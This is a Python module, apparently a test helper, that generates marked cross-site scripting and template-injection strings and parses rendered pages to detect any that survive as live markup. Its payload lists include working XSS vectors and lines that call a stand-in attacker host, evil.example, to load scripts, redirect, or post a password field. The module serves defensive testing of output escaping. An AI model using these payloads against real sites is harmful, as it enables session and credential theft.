"""Strings that would run, if a page ever took them for anything but text.

Each carries a mark of its own, so that wherever one turns up it can be told which.
"""

import re
from html.parser import HTMLParser
from itertools import cycle, islice, product

MARK = re.compile(r"xss\d{4}q")

DOES = (
    "alert('{}')",
    "top.{}=1",
    "fetch('//evil.example/{}')",
    "import('data:text/javascript,{}')",
    "eval(atob('{}'))",
    "document.title='{}'",
)
BREAKS_OUT = (
    "", '"', "'", '">', "'>", "`>", "</textarea>", "</title>", "</script>", "</style>",
    "</select>", "</p></div>", "-->", "]]>", "%22%3E", "&quot;&gt;", "\\\">", "\n\">", "\u2028",
    "{{", "{%", "${", "#{", "</svg>", "</main></body>", "\x0b\"", "&#34;>", "\uff02\uff1e",
)  # fmt: skip
BODIES = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT >",
    "<script src=//evil.example/{mark}></script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script\n>{}</script\n>",
    "<img src=x onerror={}>",
    "<img src=x onerror=\"{}\">",
    "<IMG SRC=x ONERROR={}>",
    "<img/src/onerror={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<body onload={}>",
    "<marquee onstart={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<a href=\"java\tscript:{}\">x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<button formaction=javascript:{}>x</button>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title=\"--><img src=x onerror={}>\">",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<style>@import'//evil.example/{mark}';</style>",
    "<style>*{{background:url(//evil.example/{mark})}}</style>",
    "<link rel=stylesheet href=//evil.example/{mark}>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{mark}'>",
    "<base href=//evil.example/{mark}/>",
    "<template><script>{}</script></template>",
    "<x onclick={} tabindex=1 id={mark}>x</x>",
    "<div style=\"width:expression({})\">",
    "<!--<img src='--><img src=x onerror={}//'>",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml version='1.0'?><x>{mark}</x>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    " onmouseover={} x=",
    "\" onfocus={} autofocus x=\"",
    "' onfocus={} autofocus x='",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "{{{{7*191}}}}{mark}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{mark}{{% endfor %}}",
    "${{7*191}}{mark}",
    "<b>{mark}</b>",
    "<p class=MsoNormal><o:p>{mark}</o:p></p>",
    "<h1>{mark}",
    "</form><form action=//evil.example/{mark}><input name=password>",
)  # fmt: skip


def strings(how_many=1000):
    """So many different strings, each with its mark."""
    ways = product(BODIES, DOES, BREAKS_OUT)
    mixed = sorted(ways, key=lambda way: hash_of("".join(way)))
    told = []
    for number, (body, does, out) in enumerate(islice(cycle(mixed), how_many)):
        mark = f"xss{number:04d}q"
        told.append(out + body.format(does.format(mark), mark=mark))
    return told


def hash_of(text):
    """The same order in every run."""
    import zlib

    return zlib.crc32(text.encode())


TEXT_IN = {"value", "alt", "title", "aria-label", "content", "placeholder"}
RAW = {"script", "style", "iframe", "noscript", "template", "object", "embed", "base"}
OURS = {"script"}  # from our own files only, with nothing in them


class Reading(HTMLParser):
    """What a page makes of the strings: everything that is not plain text is noted."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.wrong, self.within, self.text = [], [], []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "style"):
            self.within.append(tag)
        if MARK.search(tag) or (tag in RAW - OURS):
            self.wrong.append(f"an element {tag}")
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def _attribute(self, tag, name, value):
        if name.startswith("on") or MARK.search(name) or name in ("srcdoc", "style"):
            self.wrong.append(f"{tag} {name}={value}")
        if tag == "script" and name == "src" and not value.startswith("/static/"):
            self.wrong.append(f"a script from {value}")
        if name in ("href", "src", "action", "formaction") and not value.startswith(
            ("/", "#", "?", "mailto:", "tel:")
        ):
            self.wrong.append(f"{tag} leads to {value}")
        if value.startswith("//"):
            self.wrong.append(f"{tag} {name} leads elsewhere: {value}")
        if MARK.search(value):
            self._marked(tag, name, value)

    def _marked(self, tag, name, value):
        if name in ("href", "action") and not set(value) & set("<>\"'` "):
            return  # written as an address should be
        if name not in TEXT_IN:
            self.wrong.append(f"{tag} {name} holds {value}")

    def handle_endtag(self, tag):
        if self.within and tag == self.within[-1]:
            self.within.pop()

    def handle_data(self, data):
        if self.within and data.strip():
            self.wrong.append(f"inside {self.within[-1]}: {data[:60]}")
        self.text.append(data)

    def handle_comment(self, data):
        if MARK.search(data):
            self.wrong.append(f"a comment: {data}")

    handle_pi = handle_decl = handle_comment
    unknown_decl = handle_comment


def read(page):
    """Parse a page. What is wrong with it, and its text."""
    reading = Reading()
    reading.feed(page)
    reading.close()
    if "1337" in "".join(reading.text):
        reading.wrong.append("an expression was worked out")
    return reading
